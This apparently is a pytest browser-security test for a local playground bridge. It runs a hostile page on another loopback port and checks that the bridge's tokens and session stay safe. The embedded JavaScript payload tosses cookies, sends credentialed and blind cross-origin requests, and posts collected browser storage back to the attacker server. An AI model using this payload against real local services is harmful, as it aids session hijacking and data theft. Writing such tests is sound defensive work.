"""A hostile page on another loopback port, in the same real browser as the user's playground.

Any local user can listen on 127.0.0.1, and browsers send a host's cookies to every port of it.
The attacker's server records every request it gets; its page tries to toss cookies onto the
bridge's paths and to call the bridge's API with whatever the browser would add on its own.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.bridge_helpers import Bridge, bridge_fixture, make_bridge_fixture  # noqa: F401
from tests.browser_helpers import CHROMIUM, CHROMIUM_ARGS, TIMEOUT_MS, needs_chromium
from tests.helpers import Daemon, wait_for

pytestmark = [pytest.mark.browser, needs_chromium]

ATTACK_JS = """
const bridge = "http://127.0.0.1:%(port)d";
// Cookie tossing: cookies ignore ports, so these land on the bridge's host too.
for (const path of ["/", "/api", "/api/v1"]) {
  document.cookie = `kitplay_token_%(port)d=junk; path=${path}`;
  document.cookie = `kitplay_session=junk; path=${path}`;
}
const report = {};
async function attempt(name, url, init) {
  try {
    const r = await fetch(url, init);
    report[name] = r.status;
  } catch (e) {
    report[name] = "blocked";
  }
}
(async () => {
  await attempt("status", bridge + "/api/v1/daemon/status", {credentials: "include"});
  await attempt("launch", bridge + "/api/v1/launch", {
    method: "POST", credentials: "include", mode: "no-cors",
    headers: {"Content-Type": "text/plain"}, body: JSON.stringify({app: "x.y"})});
  report.storage = JSON.stringify(Object.assign({}, sessionStorage, localStorage));
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
})();
"""


class Attacker:
    """A plain HTTP server on another loopback port that keeps every request's headers."""

    def __init__(self, bridge_port: int) -> None:
        self.requests: list[dict[str, str]] = []
        self.report: dict[str, Any] | None = None
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                attacker.requests.append(dict(self.headers))
                body = ("<!doctype html><title>cat pictures</title><script>"
                        + ATTACK_JS % {"port": bridge_port} + "</script>").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                attacker.requests.append(dict(self.headers))
                n = int(self.headers.get("Content-Length", "0"))
                attacker.report = json.loads(self.rfile.read(n))
                self.send_response(204)
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Attacker:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def browser_context() -> Iterator[Any]:
    from playwright.sync_api import expect, sync_playwright

    expect.set_options(timeout=TIMEOUT_MS)
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            yield browser.new_context()
        finally:
            browser.close()


def test_page_on_another_port_gets_nothing_and_cannot_lock_the_user_out(
        browser_context: Any, bridge: Bridge, daemon: Daemon) -> None:
    from playwright.sync_api import expect

    user = browser_context.new_page()
    user.set_default_timeout(TIMEOUT_MS)
    user.goto(bridge.login_url)
    expect(user.locator("#daemon")).to_contain_text("kitplayd")
    assert "code=" not in user.url  # the one-time code left the address bar (and history)
    session = user.evaluate("sessionStorage.getItem('kitplay.session')")
    assert session and session != bridge.token

    with Attacker(bridge.port) as attacker:
        evil = browser_context.new_page()
        evil.goto(f"http://127.0.0.1:{attacker.port}/")
        wait_for(lambda: attacker.report is not None, 30, "the attacker's report")
        evil.close()
    secrets = (bridge.token, session)
    for headers in attacker.requests:  # nothing of the user's reached the other port
        assert not any(s in v for v in headers.values() for s in secrets), headers
    report = attacker.report
    assert report is not None
    assert report["status"] == "blocked"  # no CORS: the page cannot even read a status
    assert not any(s in report["storage"] for s in secrets)
    assert daemon.call("jobs.list", {})["jobs"] == []  # the blind POST launched nothing

    # The tossed cookies change nothing: the user's page still works, after a reload too.
    user.reload()
    expect(user.locator("#daemon")).to_contain_text("kitplayd")
    user.click("#new-app")
    user.locator('.tcard[data-template="console_app"] button.create').click()
    user.fill("#create-name", "my_company.after_toss")
    user.click("#create-submit")
    expect(user.locator('#tree .app-row[data-app="my_company.after_toss"]')).to_be_visible()
    # The login code was one-time: opening the same URL again signs nobody in (with no
    # signed-in tab left open to join).
    user.close()
    other = browser_context.new_page()
    other.goto(bridge.login_url)
    expect(other.locator("#daemon")).to_contain_text("not signed in")
    assert other.evaluate("sessionStorage.getItem('kitplay.session')") is None
